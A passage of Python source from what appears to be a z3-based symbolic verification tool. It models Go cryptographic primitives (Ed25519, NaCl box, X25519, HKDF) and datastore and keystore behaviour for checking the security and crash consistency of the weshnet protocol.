def declare_honest_key(I, seed):
    h = honest(I)
    if seed.sexpr() not in h:
        h[seed.sexpr()] = (seed, [m for (s, m) in I.path.ghost.get('all_sigs', []) if s.eq(seed)])


def record_signature(I, seed, m):
    h = honest(I)
    k = seed.sexpr()
    if k in h:
        h[k][1].append(m)
    I.path.ghost.setdefault('all_sigs', []).append((seed, m))


LOW = z3.Function('low_order', T.Term, z3.BoolSort())
ZERO32 = T.lit_bytes(b'\x00' * 32)


def secret_cond(I, t, depth=0):
    """formula under which term t depends on the X25519 agreement of two honest scalars (unknown to the adversary)"""
    hs = I.path.ghost.get('honest_scalars', [])
    if depth > 12 or not z3.is_app(t):
        return False
    if z3.is_app(t) and t.decl().kind() == z3.Z3_OP_ITE:
        c = t.arg(0)
        return zor(zand(c, secret_cond(I, t.arg(1), depth + 1)), zand(z3.Not(c), secret_cond(I, t.arg(2), depth + 1)))
    a = T.is_app(t, 'dhs')
    if a is not None:
        return any(a[0].eq(h) for h in hs) and any(a[1].eq(h) for h in hs)
    args = T.is_app(t)
    if args is not None:
        return zor(*[secret_cond(I, x, depth + 1) for x in args])
    return False


def install(I):
    C, M, N = I.contracts, I.methods, I.intrinsics

    # ---------------- libp2p keys
    def gen_ed25519(I, args, ins):
        s = atom(I, 'edseed', 32)
        declare_fresh = I.path.ghost.setdefault('generated_seeds', [])
        declare_fresh.append(s)
        return (mk_priv(I, s), mk_pub(I, pk_of_seed(I, s)), None)

    C['github.com/libp2p/go-libp2p/core/crypto.GenerateEd25519Key'] = gen_ed25519

    def unmarshal_ed_pub(I, args, ins):
        b = args[0]
        n = I.len_of(b)
        ok = (n == 32) if isinstance(n, int) else simp_bool(n == 32)
        if not I.fork_bool(ok, 'ed25519-pub-len'):
            return (None, mk_error(I, 'expect ed25519 public key data size to be 32'))
        return (mk_pub(I, I.bytes_term(b)), None)

    C['github.com/libp2p/go-libp2p/core/crypto.UnmarshalEd25519PublicKey'] = unmarshal_ed_pub

    def pub_raw(I, args, ins):
        return (TermBytes(args[0].t), None)

    def pub_type(I, args, ins):
        return args[0].ktype

    def key_equals(I, args, ins):
        a, o = args
        if o is None:
            raise GoPanic('nil-deref', 'libp2p key Equals(nil) dereferences its argument', ins.get('pos', '') if ins else '')
        b = o.v
        if a.kind != b.kind:
            return False
        return zand(I.equal(a.ktype, b.ktype), simp_bool(a.t == b.t))

    def pub_verify(I, args, ins):
        k, msg, sig = args
        m = I.bytes_term(msg)
        sg = I.bytes_term(sig)
        form, (s, m2) = is_form(sg, 'sig', 2)
        okf = simp_bool(z3.And(form, k.t == T.app('pk', s), m2 == m))
        if I.cfg.get('ed25519_nonstd_keytype') and not isinstance(k.ktype, int):
            pass
        ok = I.fork_bool(okf, 'verify')
        if ok:
            # EUF-CMA for keys declared honest: the signed message is one the honest owner signed earlier
            for key, (seed, msgs) in honest(I).items():
                hyp = (k.t == T.app('pk', seed))
                if msgs:
                    I.add(z3.Implies(hyp, z3.Or(*[m == x for x in msgs])))
                else:
                    I.add(z3.Not(hyp))
            I.path.ghost.setdefault('verified', []).append((k.t, m))
        return (ok, None)

    def priv_sign(I, args, ins):
        k, msg = args
        m = I.bytes_term(msg)
        record_signature(I, k.s, m)
        return (TermBytes(mk(I, 'sig', k.s, m, blen=64)), None)

    def priv_getpublic(I, args, ins):
        return mk_pub(I, pk_of_seed(I, args[0].s), args[0].ktype)

    def priv_raw(I, args, ins):
        return (TermBytes(mk(I, 'edraw', args[0].s, blen=64)), None)

    M[('pubkey', 'Raw')] = pub_raw
    M[('pubkey', 'Type')] = pub_type
    M[('pubkey', 'Equals')] = key_equals
    M[('pubkey', 'Verify')] = pub_verify
    M[('privkey', 'Sign')] = priv_sign
    M[('privkey', 'GetPublic')] = priv_getpublic
    M[('privkey', 'Raw')] = priv_raw
    M[('privkey', 'Type')] = pub_type
    M[('privkey', 'Equals')] = key_equals

    def new_key_from_seed(I, args, ins):
        seed = args[0]
        n = I.len_of(seed)
        ok = (n == 32) if isinstance(n, int) else simp_bool(n == 32)
        if not I.fork_bool(ok, 'seed-len'):
            raise GoPanic('panic', 'ed25519: bad seed length', ins.get('pos', '') if ins else '')
        return TermBytes(mk(I, 'edraw', I.bytes_term(seed), blen=64))

    C['crypto/ed25519.NewKeyFromSeed'] = new_key_from_seed
    C['golang.org/x/crypto/ed25519.NewKeyFromSeed'] = new_key_from_seed

    def seed_of_raw(I, raw_term):
        a = T.is_app(raw_term, 'edraw')
        if a is not None:
            return a[0]
        raise Inconclusive('private key bytes not of the form edraw(seed): %s' % T.term_str(raw_term))

    def keypair_from_std(I, args, ins):
        p = args[0]
        v = p.v if isinstance(p, Iface) else p
        if isinstance(v, Ptr):
            v = v.load()
        s = seed_of_raw(I, I.bytes_term(v))
        return (mk_priv(I, s), mk_pub(I, pk_of_seed(I, s)), None)

    C['github.com/libp2p/go-libp2p/core/crypto.KeyPairFromStdKey'] = keypair_from_std

    def marshal_priv(I, args, ins):
        k = args[0]
        if k is None:
            return (None, mk_error(I, 'nil key'))
        return (TermBytes(mk(I, 'marshalpriv', u64term(k.v.ktype), k.v.s, blen=68)), None)

    def unmarshal_priv(I, args, ins):
        b = I.bytes_term(args[0])
        a = T.is_app(b, 'marshalpriv')
        if a is not None:
            kt = T.concrete_bytes(a[0])
            return (mk_priv(I, a[1], int.from_bytes(kt, 'big') if kt is not None else ED), None)
        form, (kt, s) = is_form(b, 'marshalpriv', 2)
        if not I.fork_bool(simp_bool(form), 'unmarshal-priv'):
            # a private key has more than one accepted encoding (libp2p still parses the legacy 96-byte Ed25519 layout):
            # foreign bytes may also be ANOTHER encoding of some key -- a second free constructor over the same fields
            form2, (kt2, s2) = is_form(b, 'marshalpriv-legacy', 2)
            if not I.fork_bool(simp_bool(form2), 'unmarshal-priv-legacy'):
                return (None, mk_error(I, 'unmarshal private key failed'))
            kt, s = kt2, s2
        ktype = z3.simplify(z3.Extract(31, 0, u64_of_term(kt)))
        I.add(kt == u64term(ktype))  # the key-type field is a 32-bit enum in canonical encoding
        I.add(T.blen(s) >= 0)
        return (mk_priv(I, s, ktype if not z3.is_bv_value(ktype) else ktype.as_long()), None)

    def marshal_pub(I, args, ins):
        k = args[0]
        return (TermBytes(mk(I, 'marshalpub', u64term(k.v.ktype), k.v.t, blen=36)), None)

    def unmarshal_pub(I, args, ins):
        b = I.bytes_term(args[0])
        a = T.is_app(b, 'marshalpub')
        if a is not None:
            kt = T.concrete_bytes(a[0])
            return (mk_pub(I, a[1], int.from_bytes(kt, 'big') if kt is not None else ED), None)
        form, (kt, raw) = is_form(b, 'marshalpub', 2)
        if not I.fork_bool(simp_bool(form), 'unmarshal-pub'):
            return (None, mk_error(I, 'unmarshal public key failed'))
        ktype = z3.simplify(z3.Extract(31, 0, u64_of_term(kt)))
        I.add(kt == u64term(ktype))
        I.add(T.blen(raw) >= 0)
        return (mk_pub(I, raw, ktype if not z3.is_bv_value(ktype) else ktype.as_long()), None)

    C['github.com/libp2p/go-libp2p/core/crypto.MarshalPrivateKey'] = marshal_priv
    C['github.com/libp2p/go-libp2p/core/crypto.UnmarshalPrivateKey'] = unmarshal_priv
    C['github.com/libp2p/go-libp2p/core/crypto.MarshalPublicKey'] = marshal_pub
    C['github.com/libp2p/go-libp2p/core/crypto.UnmarshalPublicKey'] = unmarshal_pub

    # slices of private key bytes: seed / public half
    def slice_rule(I, t, lo, hi):
        a = T.is_app(t, 'edraw')
        if a is not None:
            if lo == 0 and hi == 32:
                return a[0]
            if lo == 32 and hi == 64:
                return pk_of_seed(I, a[0])
        return None

    I.term_slice_rules = getattr(I, 'term_slice_rules', []) + [slice_rule]

    # ---------------- ed25519 <-> x25519 conversion (weshnet cryptoutil leaf primitives)
    def priv_to_curve(I, args, ins):
        ret, privbytes = args
        s = seed_of_raw(I, I.bytes_term(privbytes))
        write_bytes(I, ret.load(), 0, mk(I, 'edpriv2x', s, blen=32), 32)
        return None

    def pub_to_curve(I, args, ins):
        ret, pubbytes = args
        p = I.bytes_term(pubbytes)
        a = T.is_app(p, 'pk')
        if a is not None:
            x = mk(I, 'xpub', mk(I, 'edpriv2x', a[0], blen=32), blen=32)
        else:
            # arbitrary bytes: either not a curve point (error) or some montgomery point
            form, (s,) = is_form(p, 'pk', 1)
            # whether arbitrary bytes are a curve point is a function of the bytes (the same answer on every call)
            good = z3.Function('ed_valid_point', T.Term, z3.BoolSort())(p)
            if not I.fork_bool(zor(simp_bool(form), good), 'ed-point'):
                return mk_error(I, 'unable to generate point from publicKey')
            x = z3.If(form, T.app('xpub', T.app('edpriv2x', s)), T.app('edpub2x', p))
            I.add(T.blen(x) == 32)
        write_bytes(I, ret.load(), 0, x, 32)
        return None

    W = 'berty.tech/weshnet/v2/pkg/cryptoutil.'
    C[W + 'PrivateKeyToCurve25519'] = priv_to_curve
    C[W + 'PublicKeyToCurve25519'] = pub_to_curve

    # ---------------- DH
    def dhs(I, a, b):
        x, y = (a, b) if a.sexpr() <= b.sexpr() else (b, a)
        return mk(I, 'dhs', x, y, blen=32)

    def dh(I, a, P):
        """X25519(a, P) as a term: symmetric for honest points xpub(b); for an arbitrary point P the result is ZERO when
        P is of low order (an uninterpreted predicate the solver may choose), equals the honest shared secret when P happens
        to be an honest public point, and is a free function otherwise (DESIGN 2.3)"""
        pb_ = T.is_app(P, 'xpub')
        if pb_ is not None:
            return dhs(I, a, pb_[0])
        if not I.cfg.get('dh_low_order'):
            return mk(I, 'dh', a, P, blen=32)
        g = I.path.ghost
        res = mk(I, 'dh', a, P, blen=32)
        for sc in g.get('honest_scalars', []):
            if sc.eq(a):
                continue
            res = z3.If(P == T.app('xpub', sc), dhs(I, a, sc), res)
        res = z3.If(LOW(P), ZERO32, res)
        I.add(T.blen(res) == 32)
        for sc in g.get('honest_scalars', []):
            I.add(z3.Not(LOW(T.app('xpub', sc))))
        return res

    I.dh = lambda a, P: dh(I, a, P)

    def box_key(I, pub_ptr, priv_ptr):
        d = dh(I, arr_ptr_term(I, priv_ptr), arr_ptr_term(I, pub_ptr))
        t = T.app('hs', d)
        I.add(T.blen(t) == 32)
        return t

    def do_seal(I, m, n, k):
        mt = I.bytes_term(m)
        t = T.app('sbox', mt, n, k)
        I.add(T.blen(t) == I.blen_of(mt) + 16)
        sk = secret_keys(I)
        if k.sexpr() in sk:
            sk[k.sexpr()][1].append(t)
        I.path.ghost.setdefault('all_seals', []).append((k, t))
        return TermBytes(t)

    def do_open(I, box, n, k, label):
        bt = I.bytes_term(box)
        a = T.is_app(bt, 'sbox')
        if a is not None:
            okf = simp_bool(z3.And(a[1] == n, a[2] == k))
            m = a[0]
        else:
            form, (m, n2, k2) = is_form(bt, 'sbox', 3)
            okf = simp_bool(z3.And(form, n2 == n, k2 == k))
        if not I.fork_bool(okf, label):
            return (None, False)
        if I.cfg.get('auto_secrecy'):
            # a key that depends on the agreement of two honest scalars is unknown to the adversary: an opening that
            # succeeds under it was sealed by an honest party under the same key (INT-CTXT)
            sc = secret_cond(I, k)
            if sc is not False:
                seals = I.path.ghost.get('all_seals', [])
                alts = [z3.And(k == k2, bt == b2) for (k2, b2) in seals]
                I.add(z3.Implies(sc if sc is not True else z3.BoolVal(True), z3.Or(*alts) if alts else z3.BoolVal(False)))
        # INT-CTXT for keys declared secret: the ciphertext is one of the honest seals under that key
        for key, (kt, boxes) in secret_keys(I).items():
            hyp = (k == kt)
            if boxes:
                I.add(z3.Implies(hyp, z3.Or(*[bt == x for x in boxes])))
            else:
                I.add(z3.Not(hyp))
        if a is None:
            I.add(T.blen(m) >= 0)
            I.add(T.blen(bt) == T.blen(m) + 16)
        return (bytes_value(I, m), True)

    def bytes_value(I, t):
        """[]byte value of term t: empty -> non-nil empty slice"""
        n = I.blen_of(t)
        if isinstance(n, int) and n == 0:
            return SliceVal(AV([]), 0, 0, 0)
        return TermBytes(t)

    I.bytes_value = lambda t: bytes_value(I, t)

    def sb_seal(I, args, ins):
        out, m, n, k = args
        if out is not None and I.len_of(out) != 0:
            raise Inconclusive('secretbox.Seal with non-empty out')
        return do_seal(I, m, arr_ptr_term(I, n), arr_ptr_term(I, k))

    def sb_open(I, args, ins):
        out, b, n, k = args
        return do_open(I, b, arr_ptr_term(I, n), arr_ptr_term(I, k), 'secretbox.Open')

    C['golang.org/x/crypto/nacl/secretbox.Seal'] = sb_seal
    C['golang.org/x/crypto/nacl/secretbox.Open'] = sb_open

    def bx_seal(I, args, ins):
        out, m, n, pub, priv = args
        return do_seal(I, m, arr_ptr_term(I, n), box_key(I, pub, priv))

    def bx_open(I, args, ins):
        out, b, n, pub, priv = args
        return do_open(I, b, arr_ptr_term(I, n), box_key(I, pub, priv), 'box.Open')

    def bx_precompute(I, args, ins):
        shared, pub, priv = args
        write_bytes(I, shared.load(), 0, box_key(I, pub, priv), 32)
        return None

    def bx_seal_after(I, args, ins):
        out, m, n, k = args
        return do_seal(I, m, arr_ptr_term(I, n), arr_ptr_term(I, k))

    def bx_open_after(I, args, ins):
        out, b, n, k = args
        return do_open(I, b, arr_ptr_term(I, n), arr_ptr_term(I, k), 'box.OpenAfterPrecomputation')

    def bx_generate(I, args, ins):
        a = atom(I, 'x25519-scalar', 32)
        I.path.ghost.setdefault('honest_scalars', []).append(a)
        pub = Ptr([new_array(I, mk(I, 'xpub', a, blen=32), 32)], 0)
        priv = Ptr([new_array(I, a, 32)], 0)
        return (pub, priv, None)

    B = 'golang.org/x/crypto/nacl/box.'
    C[B + 'Seal'] = bx_seal
    C[B + 'Open'] = bx_open
    C[B + 'Precompute'] = bx_precompute
    C[B + 'SealAfterPrecomputation'] = bx_seal_after
    C[B + 'OpenAfterPrecomputation'] = bx_open_after
    C[B + 'GenerateKey'] = bx_generate

    def ecdh_x25519(I, args, ins):
        return Iface(-42, Native('ecdhx', as_iface=True))

    def ecdh_compute(I, args, ins):
        _, priv, pub = args
        pv = priv.v if isinstance(priv, Iface) else priv
        pu = pub.v if isinstance(pub, Iface) else pub
        a = arr_ptr_term(I, pv) if isinstance(pv, Ptr) else I.bytes_term(pv)
        P = arr_ptr_term(I, pu) if isinstance(pu, Ptr) else I.bytes_term(pu)
        return TermBytes(dh(I, a, P))

    def curve_x25519(I, args, ins):
        scalar, point = args
        a, P = I.bytes_term(scalar), I.bytes_term(point)
        if I.len_of(scalar) != 32 or I.len_of(point) != 32:
            n1, n2 = I.len_of(scalar), I.len_of(point)
            if isinstance(n1, int) and isinstance(n2, int):
                return (None, mk_error(I, 'bad scalar/point length'))
        pb_ = T.is_app(P, 'xpub')
        if pb_ is None and I.cfg.get('dh_low_order'):
            if I.fork_bool(LOW(P), 'low-order-point'):
                return (None, mk_error(I, 'bad input point: low order point'))
        return (bytes_value(I, dh(I, a, P)), None)

    C['golang.org/x/crypto/curve25519.X25519'] = curve_x25519
    C['github.com/aead/ecdh.X25519'] = ecdh_x25519
    M[('ecdhx', 'ComputeSecret')] = ecdh_compute

    # ---------------- randomness
    def rand_read(I, args, ins):
        b = args[-1]
        n = I.len_of(b)
        if n == 0:
            return (0, None)
        t = atom(I, 'rand', n)
        write_bytes(I, b.arr, b.off, t, n)
        return (n, None)

    C['crypto/rand.Read'] = rand_read

    # ---------------- hashes / kdf
    def hashname(f):
        n = f.fn if isinstance(f, Closure) else str(f)
        return n.rsplit('/', 1)[-1]

    def hkdf_extract(I, args, ins):
        h, secret, salt = args
        return TermBytes(mk(I, 'hkdf-extract', T.lit_bytes(hashname(h).encode()), I.bytes_term(secret), I.bytes_term(salt), blen=32))

    def hkdf_expand(I, args, ins):
        h, prk, info = args
        return Iface(-43, Native('kdfreader', prk=I.bytes_term(prk), info=I.bytes_term(info), h=hashname(h), idx=0, as_iface=True))

    def hkdf_new(I, args, ins):
        h, secret, salt, info = args
        prk = mk(I, 'hkdf-extract', T.lit_bytes(hashname(h).encode()), I.bytes_term(secret), I.bytes_term(salt), blen=32)
        return Iface(-43, Native('kdfreader', prk=prk, info=I.bytes_term(info), h=hashname(h), idx=0, as_iface=True))

    H = 'golang.org/x/crypto/hkdf.'
    C[H + 'Extract'] = hkdf_extract
    C[H + 'Expand'] = hkdf_expand
    C[H + 'New'] = hkdf_new

    def kdf_block(I, r, n):
        t = mk(I, 'kdf', r.prk, r.info, T.lit_bytes(('%s/%d/%d' % (r.h, r.idx, n)).encode()), blen=n)
        r.idx += 1
        return t

    def limit_reader(I, args, ins):
        r, n = args
        return Iface(-44, Native('limitreader', r=r.v, n=n, as_iface=True))

    def read_all(I, args, ins):
        r = args[0].v
        if r.kind == 'limitreader' and r.r.kind == 'kdfreader' and isinstance(r.n, int):
            return (TermBytes(kdf_block(I, r.r, r.n)), None)
        if r.kind == 'limitreader' and r.r.kind == 'sentinel' and r.r.name == 'crypto/rand.Reader' and isinstance(r.n, int):
            return (TermBytes(atom(I, 'rand', r.n)), None)
        raise Inconclusive('io.ReadAll of %s' % r.kind)

    def read_full(I, args, ins):
        r, buf = args
        rv = r.v
        n = I.len_of(buf)
        if isinstance(rv, Native) and rv.kind == 'kdfreader':
            write_bytes(I, buf.arr, buf.off, kdf_block(I, rv, n), n)
            return (n, None)
        raise Inconclusive('io.ReadFull of %r' % (rv,))

    C['io.LimitReader'] = limit_reader
    C['io.ReadAll'] = read_all
    C['io.ReadFull'] = read_full

    def sum256(I, args, ins):
        t = mk(I, 'sha256', I.bytes_term(args[0]), blen=32)
        return new_array(I, t, 32)

    C['crypto/sha256.Sum256'] = sum256

    # ---------------- encoders
    def enc(name):
        def f(I, args, ins):
            src = args[-1]
            st = I.bytes_term(src)
            cb = T.concrete_bytes(st)
            if cb is not None:
                import base64
                if name == 'hex':
                    return cb.hex()
                if name == 'b64url':
                    return base64.urlsafe_b64encode(cb).decode().rstrip('=')
                if name == 'b64':
                    return base64.b64encode(cb).decode()
            return SymStr(mk(I, name, st))
        return f

    C['encoding/hex.EncodeToString'] = enc('hex')

    def b64_encode(I, args, ins):
        encp = args[0]
        which = getattr(I, 'b64_names', {}).get(id(encp.c) if isinstance(encp, Ptr) else None, 'b64x')
        return enc(which)(I, args, ins)

    C['(*encoding/base64.Encoding).EncodeToString'] = b64_encode
    I.b64_names = {}

    def b64_global(name, tag):
        def init(I, gname):
            cell = [Native('b64enc', tag=tag)]
            p = Ptr(cell, 0)
            I.b64_names[id(cell)] = tag
            return p
        I.globals_init['encoding/base64.' + name] = init

    b64_global('RawURLEncoding', 'b64url')
    b64_global('StdEncoding', 'b64')
    b64_global('URLEncoding', 'b64urlpad')
    b64_global('RawStdEncoding', 'b64raw')

    # ---------------- datastore
    KEYT = 'github.com/ipfs/go-datastore.Key'

    def ds_key(I, term_or_str):
        t = I.prog.type_by_str(KEYT)
        return SV([term_or_str], t.id if t else 0)

    def key_with_namespaces(I, args, ins):
        parts = args[0].elems() if args[0] is not None else []
        if all(isinstance(p, str) for p in parts):
            return ds_key(I, '/' + '/'.join(parts))
        return ds_key(I, SymStr(mk(I, 'kpath', *[I.str_term(p) for p in parts])))

    def new_key(I, args, ins):
        s = args[0]
        if isinstance(s, str):
            return ds_key(I, s if s.startswith('/') else '/' + s)
        return ds_key(I, SymStr(mk(I, 'kpath', I.str_term(s))))

    D = 'github.com/ipfs/go-datastore.'
    C[D + 'KeyWithNamespaces'] = key_with_namespaces
    C[D + 'NewKey'] = new_key
    C['(%s).String' % KEYT] = lambda I, a, ins: a[0][0]

    OptKey = T.Term

    def new_datastore(I, name='ds', symbolic=False):
        if symbolic:
            pres = z3.Array(I.fresh_name(name + '.present'), T.Term, z3.BoolSort())
            val = z3.Array(I.fresh_name(name + '.value'), T.Term, T.Term)
        else:
            pres = z3.K(T.Term, z3.BoolVal(False))
            val = z3.K(T.Term, T.lit_bytes(b''))
        return Native('ds', pres=pres, val=val, muts=0, name=name, as_iface=True, batching=True, log=[])

    I.new_datastore = lambda name='ds', symbolic=False: new_datastore(I, name, symbolic)

    def keyterm(I, k):
        return I.str_term(k[0])

    def ds_mutate(I, d, fn):
        """apply a mutation, masked by the crash index when the harness has one (DESIGN section 5)"""
        kappa = I.path.ghost.get('crash_index')
        d.muts += 1
        idx = I.path.ghost.get('mut_count', 0)
        I.path.ghost['mut_count'] = idx + 1
        np, nv = fn(d.pres, d.val)
        if kappa is not None:
            live = z3.IntVal(idx) < kappa
            d.pres = z3.If(live, np, d.pres)
            d.val = z3.If(live, nv, d.val)
        else:
            d.pres, d.val = np, nv

    def bmc_world(I, d=None, write=False):
        w = I.path.ghost.get('bmc')
        if w is None or w.cur is None:
            return None
        if d is not None and id(d) in getattr(w, 'frozen_ids', ()):
            # a datastore the harness declared immutable while the goroutines run (verif_freeze): read directly
            if write:
                raise Inconclusive('a goroutine writes a datastore the harness declared immutable (verif_freeze)')
            return None
        return w

    def ds_name(I, w, d):
        name = w.obj('ds', id(d), init=(d.pres, d.val))
        return name

    def _sp(I, label, ins):
        sp = getattr(I, 'sync_point', None)
        if sp is not None:
            sp(label, ins)

    def ds_get(I, args, ins):
        d, ctx, k = args
        _sp(I, 'ds.Get', ins)
        kt = keyterm(I, k)
        w = bmc_world(I, d)
        if w is not None:
            from .. import bmc
            typed = getattr(I, 'ds_typed', None)
            shape = typed(I, kt) if typed else None
            if shape is not None:
                # harness-declared datastore invariant for this key family: present and of the given shape. The read returns
                # a value of that shape without forking; that the shared state really satisfies the invariant at the step
                # the read executes is a separate obligation of the BMC (state assertion), not an assumption.
                val = shape
                name = ds_name(I, w, d)
                bmc.rec(I, 'sassert', name, (lambda st, name=name, kt=kt: z3.Select(st[name + '.pres'], kt),), ins=ins,
                        label='datastore invariant: the entry read under the declared key family is present')
                bmc.rec(I, 'dsget', name, (kt,), res=(z3.BoolVal(True), val), ins=ins)
                return (bytes_value(I, val), None)
            pres = I.fresh_bool('ds.present')
            val = I.fresh_term('ds.value')
            bmc.rec(I, 'dsget', ds_name(I, w, d), (kt,), res=(pres, val), ins=ins)
            if not I.fork_bool(pres, 'ds.Get'):
                return (None, sentinel(I, D + 'ErrNotFound'))
            return (bytes_value(I, val), None)
        present = simp_bool(z3.Select(d.pres, kt))
        if not I.fork_bool(present, 'ds.Get'):
            return (None, sentinel(I, D + 'ErrNotFound'))
        v = z3.simplify(z3.Select(d.val, kt))
        I.add(T.blen(v) >= 0)
        return (bytes_value(I, v), None)

    def ds_has(I, args, ins):
        d, ctx, k = args
        _sp(I, 'ds.Has', ins)
        w = bmc_world(I, d)
        if w is not None:
            from .. import bmc
            pres = I.fresh_bool('ds.present')
            val = I.fresh_term('ds.value')
            bmc.rec(I, 'dsget', ds_name(I, w, d), (keyterm(I, k),), res=(pres, val), ins=ins)
            return (pres, None)
        return (simp_bool(z3.Select(d.pres, keyterm(I, k))), None)

    def ds_put(I, args, ins):
        d, ctx, k, v = args
        _sp(I, 'ds.Put', ins)
        kt, vt = keyterm(I, k), I.bytes_term(v)
        w = bmc_world(I, d, write=True)
        if w is not None:
            from .. import bmc
            bmc.rec(I, 'dsmut', ds_name(I, w, d), ((('put', kt, vt),),), ins=ins)
            return None
        ds_mutate(I, d, lambda p, a: (z3.Store(p, kt, z3.BoolVal(True)), z3.Store(a, kt, vt)))
        d.log.append(('put', kt, vt))
        return None

    def ds_delete(I, args, ins):
        d, ctx, k = args
        _sp(I, 'ds.Delete', ins)
        kt = keyterm(I, k)
        w = bmc_world(I, d, write=True)
        if w is not None:
            from .. import bmc
            bmc.rec(I, 'dsmut', ds_name(I, w, d), ((('del', kt, None),),), ins=ins)
            return None
        ds_mutate(I, d, lambda p, a: (z3.Store(p, kt, z3.BoolVal(False)), a))
        d.log.append(('del', kt, None))
        return None

    def ds_batch(I, args, ins):
        d, ctx = args
        if not d.batching:
            return (None, sentinel(I, D + 'ErrBatchUnsupported'))
        return (Iface(-46, Native('dsbatch', ds=d, ops=[], as_iface=True)), None)

    def batch_put(I, args, ins):
        b, ctx, k, v = args
        b.ops.append(('put', keyterm(I, k), I.bytes_term(v)))
        return None

    def batch_delete(I, args, ins):
        b, ctx, k = args
        b.ops.append(('del', keyterm(I, k), None))
        return None

    def batch_commit(I, args, ins):
        b, ctx = args
        _sp(I, 'ds.Commit', ins)
        ops = list(b.ops)
        b.ops = []
        w = bmc_world(I, b.ds, write=True)
        if w is not None:
            from .. import bmc
            bmc.rec(I, 'dsmut', ds_name(I, w, b.ds), (tuple(ops),), ins=ins)
            return None

        def fn(p, a):
            for (op, kt, vt) in ops:
                if op == 'put':
                    p = z3.Store(p, kt, z3.BoolVal(True))
                    a = z3.Store(a, kt, vt)
                else:
                    p = z3.Store(p, kt, z3.BoolVal(False))
            return p, a
        ds_mutate(I, b.ds, fn)
        b.ds.log.extend(ops)
        return None

    for m_, f_ in (('Get', ds_get), ('Has', ds_has), ('Put', ds_put), ('Delete', ds_delete), ('Batch', ds_batch)):
        M[('ds', m_)] = f_
    M[('dsbatch', 'Put')] = batch_put
    M[('dsbatch', 'Delete')] = batch_delete
    M[('dsbatch', 'Commit')] = batch_commit

    # ---------------- keystore (name -> private key)
    def ks_find(I, ks, name):
        nt = I.str_term(name)
        for i, (n, k) in enumerate(ks.items):
            c = simp_bool(n == nt)
            if c is True:
                return i
            if c is False:
                continue
            if I.fork_bool(c, 'keystore-name'):
                return i
        return -1

    def ks_get(I, args, ins):
        _sp(I, 'keystore.Get', ins)
        ks, name = args
        i = ks_find(I, ks, name)
        if i < 0:
            return (None, sentinel(I, 'github.com/ipfs/go-ipfs-keystore.ErrNoSuchKey'))
        return (ks.items[i][1], None)

    def ks_has(I, args, ins):
        _sp(I, 'keystore.Has', ins)
        ks, name = args
        return (ks_find(I, ks, name) >= 0, None)

    def ks_put(I, args, ins):
        _sp(I, 'keystore.Put', ins)
        ks, name, key = args
        if ks_find(I, ks, name) >= 0:
            return sentinel(I, 'github.com/ipfs/go-ipfs-keystore.ErrKeyExists')
        idx = I.path.ghost.get('mut_count', 0)
        I.path.ghost['mut_count'] = idx + 1
        kappa = I.path.ghost.get('crash_index')
        if kappa is not None:
            # crash masking of keystore writes: the write happened iff idx < kappa (fork: two concrete worlds)
            if not I.fork_bool(z3.IntVal(idx) < kappa, 'crash-before-keystore-put'):
                ks.lost = getattr(ks, 'lost', 0) + 1
                return None
        ks.items.append((I.str_term(name), key))
        return None

    def ks_delete(I, args, ins):
        _sp(I, 'keystore.Delete', ins)
        ks, name = args
        i = ks_find(I, ks, name)
        if i < 0:
            return sentinel(I, 'github.com/ipfs/go-ipfs-keystore.ErrNoSuchKey')
        del ks.items[i]
        return None

    M[('ks', 'Get')] = ks_get
    M[('ks', 'Has')] = ks_has
    M[('ks', 'Put')] = ks_put
    M[('ks', 'Delete')] = ks_delete

    def v_datastore(I, args, ins):
        return Iface(-45, new_datastore(I, gostr(args[0]) if args else 'ds'))

    def v_sym_datastore(I, args, ins):
        return Iface(-45, new_datastore(I, gostr(args[0]) if args else 'ds', symbolic=True))

    def v_keystore(I, args, ins):
        return Iface(-47, Native('ks', items=[], as_iface=True))

    N['verif_datastore'] = v_datastore
    N['verif_symDatastore'] = v_sym_datastore
    N['verif_keystore'] = v_keystore

    # ---------------- honesty / secrecy declarations
    def v_honest_key(I, args, ins):
        k = args[0]
        declare_honest_key(I, k.v.s)
        I.path.ghost.setdefault('honest_scalars', []).append(T.app('edpriv2x', k.v.s))
        return None

    def v_secret_sym(I, args, ins):
        """declare a 32-byte symmetric key (given as []byte) secret: INT-CTXT applies to it"""
        kt = I.bytes_term(args[0])
        secret_keys(I).setdefault(kt.sexpr(), (kt, []))
        return None

    N['verif_honestKey'] = v_honest_key
    N['verif_secretSymKey'] = v_secret_sym

    def v_crash_index(I, args, ins):
        k = I.fresh_int('crash-index')
        I.add(k >= 0)
        I.register_input('crash-index(kappa)', k)
        I.path.ghost['crash_index'] = k
        I.path.ghost['crash_base'] = I.path.ghost.get('mut_count', 0)
        return k

    def v_mut_count(I, args, ins):
        return I.path.ghost.get('mut_count', 0)

    def v_crash_off(I, args, ins):
        I.path.ghost['crash_index'] = None
        return None

    N['verif_crashIndex'] = v_crash_index
    N['verif_mutCount'] = v_mut_count
    N['verif_restart'] = v_crash_off

    def v_context(I, args, ins):
        return Iface(-20, Native('ctx', cancelled=False, as_iface=True))

    N['verif_background'] = v_context
    C['context.Background'] = v_context
    C['context.TODO'] = v_context
    if ('ctx', 'Err') not in M:
        M[('ctx', 'Err')] = lambda I, a, ins: None
        M[('ctx', 'Done')] = lambda I, a, ins: Native('donechan', closed=False)
        M[('ctx', 'Value')] = lambda I, a, ins: None

    # logutil helpers that touch keys
    L = 'berty.tech/weshnet/v2/pkg/logutil.'
    C[L + 'PrivateBinary'] = lambda I, a, ins: I.zero(I.prog.types[ins['t']])
    C[L + 'PrivateString'] = lambda I, a, ins: I.zero(I.prog.types[ins['t']])
    C[L + 'PrivateAny'] = lambda I, a, ins: I.zero(I.prog.types[ins['t']])
    C[L + 'CryptoKeyToBytes'] = lambda I, a, ins: None
    C[L + 'CryptoKeyToBase64'] = lambda I, a, ins: ''

    # cid
    from . import ipfslog
    ipfslog.install(I)

    def v_any_cid(I, args, ins):
        """free CID: undefined or defined (free choice)"""
        name = gostr(args[0])
        undef = I.fresh_bool(name + '.undef')
        I.register_input(name + '.undef', undef)
        if I.fork_bool(undef, 'cid-undef'):
            t = I.prog.type_by_str(ipfslog.CID)
            return SV([''], t.id if t else 0)
        t = I.fresh_term(name, minlen=1)
        I.register_input(name, t)
        return ipfslog.cid_value(I, t)

    N['verif_anyCid'] = v_any_cid
    C['(%s).Defined' % ipfslog.CID] = lambda I, a, ins: (a[0][0] != '') if isinstance(a[0][0], str) else True


# ----------------------------------------------------------------------------- protobuf
SKIP_FIELDS = ('state', 'sizeCache', 'unknownFields')


def install_proto(I):
    C, N = I.contracts, I.intrinsics

    def msg_struct(I, m):
